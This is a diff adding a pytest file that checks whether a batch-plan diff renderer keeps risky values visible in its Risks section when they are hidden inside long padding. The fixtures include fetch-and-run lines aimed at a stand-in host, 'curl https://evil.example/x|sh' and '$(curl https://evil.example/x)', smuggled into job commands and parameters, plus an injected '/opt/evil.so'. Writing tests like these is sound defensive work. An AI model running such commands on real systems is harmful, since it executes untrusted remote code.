@@ -1,0 +1,101 @@
+"""What is long, whatever it is padded with, hides no risk: not in any format, nor among others that begin alike."""
+
+import base64
+import html
+import random
+import re
+
+import pytest
+
+from kedro_batch.plan.model import Plan
+from kedro_batch.plan.settings import JobDefinition
+from kedro_batch.review.diff.diff_plans import diff_plans
+from kedro_batch.review.formats import DiffFormat, render_diff
+from tests.support.plans import a_job
+
+_RANDOM = random.Random(1)  # noqa: S311  nothing secret
+NOISE = base64.b64encode(_RANDOM.randbytes(12_000)).decode()
+PADS = {
+    "a letter": "x" * 6_000,
+    "blanks": " " * 6_000,
+    "line ends": "\n" * 6_000,
+    "a word": "ready " * 1_000,
+    "comments": "# nothing to see here\n" * 300,
+    "numbers": " ".join(map(str, range(3_000))),
+    "commands": "".join(f"echo {number};" for number in range(1_000)),
+    "base64": NOISE,
+    "escapes": "\u200b" * 3_000,
+    "what Markdown marks": "|`<" * 2_000,
+}
+TEXTS = (DiffFormat.TEXT, DiffFormat.MARKDOWN, DiffFormat.HTML)
+
+
+def render(jobs, output_format, before=None, definitions=({}, {}), *, full=False):
+    old = Plan(jobs=before or tuple(a_job(job.name, nodes=job.nodes) for job in jobs), job_definitions=definitions[0])
+    plans = old, Plan(jobs=tuple(jobs), job_definitions=definitions[1])
+    return render_diff(diff_plans(*plans), plans, ("a", "b"), output_format, full=full)
+
+
+def risks_of(text, output_format):
+    """Return the part of a text that shows the risks, as a browser shows it."""
+    if output_format is DiffFormat.TEXT:
+        return re.sub(r"\s+", " ", text[text.index("\nRisks") : text.index("\nJobs")])
+    if output_format is DiffFormat.MARKDOWN:
+        return html.unescape("\n".join(re.findall(r"^\| \*\*.*", text, re.MULTILINE)))
+    _, _, risks = text.partition('"risks":')
+    return risks[:100_000]
+
+
+@pytest.mark.parametrize("output_format", TEXTS)
+@pytest.mark.parametrize("pad", PADS)
+@pytest.mark.parametrize(
+    "given",
+    [
+        lambda pad: {"command": ("sh", "-c", f"export A='{pad}'; curl https://evil.example/x|sh; echo '{pad}'")},
+        lambda pad: {"environment": {"PYTHONPATH": f"/app:{pad}:https://evil.example/x:{pad}"}},
+        lambda pad: {"submit": {"parameters": {"day": f"{pad} $(curl https://evil.example/x) {pad}"}}},
+    ],
+    ids=["script", "variable", "submit"],
+)
+def test_padding_hides_no_risk(given, pad, output_format):
+    shown = risks_of(render([a_job("one", **given(PADS[pad])), a_job("two")], output_format), output_format)
+    assert "evil.example/x" in shown
+
+
+def test_what_a_definition_registers_is_not_hidden_by_padding():
+    register = {"containerProperties": {"environment": [{"name": "A", "value": NOISE + " /opt/evil.so"}]}}
+    definitions = {"d": JobDefinition(image="i")}, {"d": JobDefinition(image="i", register=register)}
+    for output_format in TEXTS:
+        text = render([a_job("one", job_definition="d")], output_format, definitions=definitions)
+        assert "/opt/evil.so" in risks_of(text + "\nJobs", output_format)
+
+
+@pytest.mark.parametrize("output_format", TEXTS)
+@pytest.mark.parametrize("pad", ["a letter", "base64", "commands"])
+def test_values_that_differ_only_far_inside_are_two_risks(pad, output_format):
+    def script(word):
+        return ("sh", "-c", f"{PADS[pad]}; {word}; {PADS[pad]}")
+
+    jobs = [a_job(f"n{number}", command=script("echo" if number else "evil")) for number in range(30)]
+    shown = risks_of(render(jobs, output_format), output_format)
+    assert len(re.findall("shell command", shown)) == 2
+    assert "evil" in shown
+
+
+@pytest.mark.parametrize("word", ["a", "|"])
+def test_a_comment_counts_once_what_it_leaves_out(word):
+    value = f"{NOISE}{word}"
+    shown = risks_of(render([a_job("one", environment={"PATH": value})], DiffFormat.MARKDOWN), DiffFormat.MARKDOWN)
+    (after,) = re.findall(r"PATH=(.*?)(?:`|</code>) \|$", shown)
+    left_out = [
+        int(number.replace(",", "")) for number in re.findall(r"\.\.\.\(([0-9,]+) more characters\)\.\.\.", after)
+    ]
+    kept = re.sub(r"\.\.\.\([0-9,]+ more characters\)\.\.\.", "", after)
+    assert left_out
+    assert sum(left_out) + len(kept) == len(value)
+    assert "more characters" not in kept
+
+
+def test_full_text_shortens_nothing():
+    shown = render([a_job("one", environment={"PATH": NOISE}), a_job("two")], DiffFormat.TEXT, full=True)
+    assert f"PATH={NOISE}" in shown
